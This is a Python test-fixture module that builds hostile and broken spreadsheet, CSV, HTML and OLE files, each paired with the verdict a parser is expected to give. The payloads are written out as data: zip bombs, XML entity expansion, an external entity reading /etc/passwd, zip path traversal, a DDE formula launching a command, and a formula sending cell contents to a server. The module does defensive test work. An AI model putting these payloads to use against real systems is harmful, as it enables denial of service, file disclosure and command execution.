"""Hostile and broken files by name, each with what reading must make of it.

"read": the form's own value is read. "noted": it is read and a finding ``unsafe_file`` notes the
danger. "refused": it is answered with a reason. "unsafe": refused as dangerous.
"""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterator

from duban.a1 import MAX_COLUMN, MAX_ROW, column_letters
from tests.workbooks.packages import (
    BLOCK,
    HEAD,
    MAIN,
    bomb,
    cell,
    parts,
    reworked,
    sheet,
    strings,
    styles,
    workbook,
    zipped,
)

COLUMNS = [column_letters(number) for number in range(1, MAX_COLUMN + 1)]
VALUE = "完成投资3.2亿元"
ROW = f'<row r="1">{cell("A1", VALUE)}</row>'
FORM = parts({"填报表": sheet(ROW)})
LOL = (
    '<!DOCTYPE x [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>'
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'


def with_part(name: str, content: str | bytes) -> bytes:
    return zipped(FORM | {name: content})


def bombs() -> Iterator[tuple[str, str, Callable[[], bytes]]]:
    open_sheet = f'{HEAD}<worksheet xmlns="{MAIN}"><sheetData>'
    for name, part, head in (
        ("sheet", "xl/worksheets/sheet1.xml", open_sheet),
        ("shared strings", "xl/sharedStrings.xml", f'{HEAD}<sst xmlns="{MAIN}"><si><t>'),
        ("styles", "xl/styles.xml", f'{HEAD}<styleSheet xmlns="{MAIN}">'),
        ("workbook", "xl/workbook.xml", f'{HEAD}<workbook xmlns="{MAIN}">'),
        ("content types", "[Content_Types].xml", HEAD),
        ("properties", "docProps/custom.xml", HEAD),
    ):
        base = parts({"填报表": sheet(ROW)}, sharedStrings=strings(""), styles=styles("", "<xf/>"))
        yield f"bomb in {name}", "refused", lambda b=base, p=part, h=head: bomb(b, p, h, 200)
        yield (
            f"bomb in {name} that declares 100 bytes",
            "refused",
            lambda b=base, p=part, h=head: bomb(b, p, h, 200, 100),
        )
    yield "bomb of 2 GiB", "unsafe", lambda: bomb(FORM, "xl/worksheets/sheet1.xml", HEAD, 2048)
    yield "bomb in a part that nobody reads", "read", lambda: bomb(FORM, "xl/theme/a.xml", "", 300)
    nested = bomb({}, "a", "", 300)
    inner = zipped({"a": nested})
    yield "zip bomb embedded", "noted", lambda: with_part("xl/embeddings/a.zip", inner)
    many = "".join(f"<si><t>{n}{'长' * 30000}</t></si>" for n in range(700))
    yield (
        "63 MB of shared strings",
        "unsafe",
        lambda: zipped(parts({"填报表": sheet(ROW)}, sharedStrings=strings(many))),
    )


def markup() -> Iterator[tuple[str, str, Callable[[], bytes]]]:
    for name in FORM:
        text = str(FORM[name])
        for kind, dtd in (("entities", LOL), ("an external entity", OUTSIDE)):
            changed = text.replace(HEAD, HEAD + dtd)
            yield f"{kind} in {name}", "refused", lambda n=name, c=changed: with_part(n, c)
    utf16 = (HEAD.replace("UTF-8", "UTF-16") + LOL + sheet(ROW).removeprefix(HEAD)).encode("utf-16")
    yield "entities in UTF-16", "unsafe", lambda: with_sheet(utf16)
    deep = "<a>" * 500_000 + "</a>" * 500_000
    yield (
        "500,000 levels",
        "read",
        lambda: with_sheet(sheet(ROW, tail=deep)),
    )
    long = f'<sheetPr codeName="{"x" * (40 << 20)}"/>'
    yield (
        "attribute of 40 MB",
        "read",
        lambda: with_sheet(sheet(ROW, long)),
    )
    for name, rows in (
        ("far row number", f'{ROW}<row r="99999999999"><c r="A99999999999"><v>1</v></c></row>'),
        ("row beyond the last", f'{ROW}<row r="1048577"><c r="A1048577"><v>1</v></c></row>'),
        ("column beyond the last", f'{ROW}<row r="2"><c r="XFE2"><v>1</v></c></row>'),
        ("unclosed row", ROW.removesuffix("</row>")),
        ("crossed tags", ROW.replace("</c></row>", "</row></c>")),
        ("NUL", ROW.replace("3.2", "\0")),
        ("unknown entity", ROW.replace("3.2", "&foo;")),
        ("reference to NUL", ROW.replace("3.2", "&#0;")),
    ):
        yield name, "refused", lambda r=rows: workbook(r)


def sizes() -> Iterator[tuple[str, str, Callable[[], bytes]]]:
    def million_rows() -> bytes:
        line = (
            '<row r="%d" spans="1:14" s="1" customFormat="1" ht="20" customHeight="1">'
            '<c r="A%d" s="1"/><c r="B%d" s="1"/></row>'
        )
        rows = "".join([line % (n, n, n) for n in range(2, MAX_ROW + 1)])
        return workbook(ROW + rows)

    yield "1,048,576 formatted empty rows", "read", million_rows
    wide = "".join(
        f'<row r="{n}">' + "".join(f'<c r="{c}{n}" s="1"/>' for c in COLUMNS) + "</row>"
        for n in range(2, 12)
    )
    yield "16,384 formatted columns", "read", lambda: workbook(ROW + wide)
    yield (
        "a million styles",
        "read",
        lambda: workbook(ROW, styles=styles("", '<xf numFmtId="0"/>' * 1_000_000)),
    )
    formats = "".join(f'<numFmt numFmtId="{n}" formatCode="0.{n}"/>' for n in range(164, 400_164))
    yield "400,000 number formats", "read", lambda: workbook(ROW, styles=styles(formats, "<xf/>"))
    yield (
        "count of 4294967295 shared strings",
        "read",
        lambda: workbook(ROW, sharedStrings=strings("", 'count="4294967295"')),
    )
    yield (
        "far cell",
        "read",
        lambda: workbook(f'{ROW}<row r="1048576">{cell("XFD1048576", "x")}</row>'),
    )
    values = "".join(
        f'<row r="{n}">' + "".join(f'<c r="{c}{n}"><v>1</v></c>' for c in COLUMNS[:20]) + "</row>"
        for n in range(2, 25_000)
    )
    yield "half a million values", "unsafe", lambda: workbook(values)
    merged = '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    yield (
        "merged throughout",
        "read",
        lambda: with_sheet(sheet(ROW, tail=merged)),
    )
    for dimension in ("A1", "A1:XFD1048576", "B7:A1", "nonsense"):
        lie = sheet(ROW, f'<dimension ref="{dimension}"/>')
        yield (
            f"dimension {dimension}",
            "read",
            lambda s=lie: with_sheet(s),
        )
    many = {"填报表": sheet(ROW)} | {f"表{n}": sheet("") for n in range(500)}
    yield "500 sheets", "read", lambda: zipped(parts(many))
    more = {f"表{n}": sheet("") for n in range(1100)}
    yield "1,100 sheets", "unsafe", lambda: zipped(parts(more))
    yield "5,000 members", "unsafe", lambda: zipped(FORM | {f"xl/m/{n}": b"" for n in range(5000)})


def containers() -> Iterator[tuple[str, str, Callable[[], bytes]]]:
    for name in ("../../etc/cron.d/x", "/etc/x/../../y", "..\\..\\x", "C:\\x", "xl/\0x"):
        yield f"path {name!r}", "unsafe", lambda n=name: with_part_raw(n)
    twin = FORM | {"xl/worksheets/Sheet1.xml": sheet("")}
    yield "two sheets of one name", "unsafe", lambda: zipped(twin)
    form = zipped(FORM)
    yield "encrypted member", "refused", lambda: flagged(form, 1)
    yield (
        "unknown compression",
        "refused",
        lambda: form.replace(b"\x08\x00\x00\x00\x21", b"\x63\x00\x00\x00\x21"),
    )
    yield "text after the end", "read", lambda: form + b"\0" * 100
    for size in range(0, len(form) - 1, 256):
        yield f"cut off at {size}", "refused", lambda s=size: form[:s]
    for at in range(40, len(form), 97):
        yield (
            f"byte {at} flipped",
            "any",
            lambda a=at: form[:a] + bytes([form[a] ^ 0x55]) + form[a + 1 :],
        )
    for name in FORM:
        expected = "read" if name == "_rels/.rels" else "refused"
        yield f"without {name}", expected, lambda n=name: reworked(form, {n: None})
        yield f"with nothing in {name}", "refused", lambda n=name: reworked(form, {n: b""})


def dangers() -> Iterator[tuple[str, str, Callable[[], bytes]]]:
    for name in (
        "xl/vbaProject.bin",
        "xl/externalLinks/externalLink1.xml",
        "xl/embeddings/oleObject1.bin",
        "xl/activeX/activeX1.xml",
        "xl/connections.xml",
        "xl/macrosheets/sheet1.xml",
    ):
        yield f"with {name}", "noted", lambda n=name: with_part(n, "x")
    call = '<row r="2"><c r="A2"><f>cmd|\'/c calc\'!A0</f><v>0</v></c></row>'
    yield "DDE formula", "noted", lambda: workbook(ROW + call)
    web = '<row r="2"><c r="A2"><f>WEBSERVICE("http://x/"&amp;A1)</f><v>0</v></c></row>'
    yield "formula that calls a server", "noted", lambda: workbook(ROW + web)


def texts() -> Iterator[tuple[str, str, Callable[[], bytes]]]:
    for name, text in (
        ("32,767 characters", "长" * 32767),
        ("a million characters", "长" * 1_000_000),
        ("escaped control characters", "a_x0007_b_x0000_c_xFFFF_d_xD800_e"),
        ("direction overrides", "\u202e3.2\u2066元\u200b"),
        ("CJK extension B", "𠮷野家𪚥"),
        ("a formula", "=cmd|'/c calc'!A0"),
        ("markup", "&lt;script&gt;{{ 7*7 }}&lt;/script&gt;"),
    ):
        yield name, "read", lambda t=text: workbook(f'{ROW}<row r="2">{cell("A2", t)}</row>')


def other_formats() -> Iterator[tuple[str, str, Callable[[], bytes]]]:
    yield "OLE header alone", "refused", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
    yield (
        "OLE of loops",
        "refused",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x01\0\0\0" * 4096,
    )
    yield "CSV with an endless field", "refused", lambda: b'a,"' + b"x" * 3_000_000
    yield "CSV of 40 MB", "unsafe", lambda: b"1,2,3\n" * 7_000_000
    yield (
        "HTML table of spans",
        "read",
        lambda: page(f"<td colspan=99999999 rowspan=99999999>{VALUE}"),
    )
    yield "HTML 100,000 deep", "refused", lambda: page("<table><tr><td>" * 100_000)
    yield "HTML of two million cells", "refused", lambda: page("<td>1" * 2_000_000)
    yield "PDF", "refused", lambda: b"%PDF-1.7\n"
    yield "nothing", "refused", lambda: b""
    yield "noise", "refused", lambda: bytes(range(256)) * 64
    yield "XLS cut off", "refused", lambda: struct.pack("<2H", 0x809, 16) * 9
    yield "too large", "unsafe", lambda: b"PK\x03\x04" + b"\0" * (65 * BLOCK)


def page(rows: str) -> bytes:
    return f"<html><meta charset=utf-8><body><table><tr>{rows}</table></body></html>".encode()


def flagged(data: bytes, flags: int) -> bytes:
    """A zip file with these flags on every member."""
    changed = bytearray(data)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(mark)
        while at >= 0:
            changed[at + offset] |= flags
            at = changed.find(mark, at + 1)
    return bytes(changed)


def with_sheet(content: str | bytes) -> bytes:
    """The form with another sheet part."""
    return with_part("xl/worksheets/sheet1.xml", content)


def with_part_raw(name: str) -> bytes:
    """A form with a member of a name that zipfile would not write."""
    stand_in = "x" * len(name)
    return zipped(FORM | {stand_in: b""}).replace(stand_in.encode(), name.encode())


def all_files() -> list[tuple[str, str, Callable[[], bytes]]]:
    """(name, what must come of it, its maker) of every file."""
    families = (bombs, markup, sizes, containers, dangers, texts, other_formats)
    return [file for family in families for file in family()]
